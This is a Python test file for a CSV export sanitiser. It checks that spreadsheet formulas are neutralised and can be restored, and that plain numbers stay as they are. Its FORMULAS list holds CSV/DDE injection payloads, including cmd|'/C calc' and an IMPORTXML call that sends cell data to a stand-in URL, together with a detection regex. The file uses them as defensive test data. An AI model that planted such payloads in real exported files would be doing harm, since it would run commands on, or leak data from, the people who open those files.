"""CSV that leaves: nothing in it runs in a spreadsheet, numbers stay numbers, and our reader gives the text back."""

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheet import disarm, render_csv, restore
from core.tabular import read_table

FORMULAS = [
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\tx",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "'=1+1",
    "''@x",
    "note;=HYPERLINK(1)",
    "two\n=1+1",
    "-1;=1+1",
    "+49 123",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/", A1))',
]
HARMLESS = [
    "-1.5",
    "+3",
    "-1,5",
    "1e-3",
    "-.5",
    "-5 %",
    "P-001",
    "a=b",
    "5-7",
    "O'Brien",
    "'quoted'",
    "mass; 12 mm",
    "",
]
RUNS = re.compile(r"(?:^|[;,\t\r\n])[\s\ufeff\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"\s*[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?\s*%?", re.IGNORECASE)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert disarm(text) != text
    assert not any(RUNS.match(piece) and not NUMBER.fullmatch(piece) for piece in re.split(r"[;,\t\r\n]", disarm(text)))
    assert restore(disarm(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_plain_texts_stay(text):
    assert disarm(text) == text == restore(text)


@given(st.text(alphabet="=+-@'; ,\t\r\n15.aP\uff1d\uff0d\u00a0", max_size=12))
def test_what_is_disarmed_comes_back_and_nothing_in_it_runs(text):
    safe = disarm(text)
    assert restore(safe) == text
    assert not any(RUNS.match(piece) and not NUMBER.fullmatch(piece) for piece in re.split(r"[;,\t\r\n]", safe))


def test_names_texts_and_numbers_of_a_table():
    table = pd.DataFrame({"=name": ["=1+1", None], "n": [-1.5, 2.0], "k": [-1, 2], "c": pd.Categorical(["@a", "-3"])})
    rows = list(csv.reader(io.StringIO(render_csv(table).decode())))
    assert rows == [["'=name", "n", "k", "c"], ["'=1+1", "-1.5", "-1", "'@a"], ["", "2.0", "2", "-3"]]
    assert table.columns[0] == "=name"


def test_columns_of_one_name_are_all_written():
    table = pd.DataFrame([["=1", "-1+1"]], columns=["a", "a"])
    assert render_csv(table) == b"a,a\n'=1,'-1+1\n"


def test_our_own_reader_gives_the_texts_back():
    texts = [text for text in FORMULAS if text.strip() == text]
    table = pd.DataFrame({"patient_id": texts, "=col": "@x"})
    data = render_csv(table)
    read = read_table(data)
    assert read.header == ("patient_id", "=col")
    assert [column.to_pylist() for column in read.columns] == [texts, ["@x"] * len(texts)]


def test_nothing_else_writes_csv():
    root = Path(__file__).parents[2]
    files = [path for folder in ("core", "pages") for path in (root / folder).rglob("*.py")]
    writers = [p.name for p in files if re.search(r"\.to_csv\(|csv\.(Dict)?[wW]riter\(", p.read_text(encoding="utf-8"))]
    assert sorted(writers) == ["pseudonym_key.py", "spreadsheet.py"]  # the list of a key disarms its cells one by one
